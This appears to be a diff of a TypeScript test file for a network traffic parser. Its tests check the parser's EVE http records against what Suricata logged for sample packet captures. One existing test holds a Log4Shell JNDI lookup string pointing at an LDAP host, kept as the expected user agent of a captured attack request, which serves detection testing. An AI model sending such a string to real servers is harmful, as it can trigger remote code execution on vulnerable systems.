@@ -100,7 +100,7 @@ test('corpus log4shell: EVE http record of the JNDI request', () => {
     hostname: '192.168.13.31',
     url: '/log4shell/login',
     http_user_agent: 'jndi:ldap://172.16.238.11:1389/a',
-    http_content_type: 'text/html;charset=ISO-8859-1',
+    http_content_type: 'text/html', // Suricata logs the media type without parameters
     http_refer: 'http://192.168.13.31:8080/log4shell/',
     http_method: 'POST',
     protocol: 'HTTP/1.1',
@@ -136,5 +136,34 @@ test('appLayerBuffer: sticky buffers by name across protocols', () => {
   dns.feed(true, cap.datagrams[0]!.data);
   assert.is(S(appLayerBuffer(dns, 'dns.query', true, 0)), 'vaaaakardli.pirate.sea');
 });
+
+
+// EVE http objects that Suricata itself logged for these suricata-verify cases (their
+// test.yaml `event_type: http` / alert checks).
+const SV_EVE: Array<[string, number, Record<string, unknown>]> = [
+  ['tcp-fastopen-01/tfo.pcap', 0, {
+    url: '/index.php', http_user_agent: 'Mozilla/5.0', http_content_type: 'text/html', http_method: 'GET',
+    protocol: 'HTTP/1.0', status: 302, redirect: '/index.php?page=main.php', length: 0,
+  }],
+  ['tcp-fastopen-07/tcp_fastopen_segmentation.pcap', 1, {
+    hostname: '10.0.0.61', url: '//a1a2a3a4a5a6a7a8a9a0b1b2b3b4b5b6b7b8b9b0c1c2c3c4c5c6c7c8c9c0d1d2d3d4d5d6d7d8d9d0',
+    http_user_agent: 'czxt2s', http_content_type: 'text/html', http_method: 'GET', protocol: 'HTTP/1.1', status: 404, length: 153,
+  }],
+  ['bug-78-uricontent/input.pcap', 0, {
+    hostname: 'www.google.com', url: '/blah/', http_user_agent: 'Wget/1.11.4', http_content_type: 'text/html',
+    http_method: 'GET', protocol: 'HTTP/1.0', status: 404,
+  }],
+];
+
+for (const [pcap, conn, want] of SV_EVE) {
+  test(`EVE http matches Suricata's log: ${pcap}`, () => {
+    const cap = readCapture(corpusPath('suricata-verify', 'tests', ...pcap.split('/')));
+    const c = cap.connections.filter((x) => x.chunks.length > 0)[conn]!;
+    const st = new AppLayerState(true);
+    for (const ch of c.chunks) st.feed(ch.toServer, ch.data);
+    const got = httpEve(st.http!.transactions[0]!) as unknown as Record<string, unknown>;
+    for (const [k, v] of Object.entries(want)) assert.equal(got[k], v, k);
+  });
+}
 
 test.run();
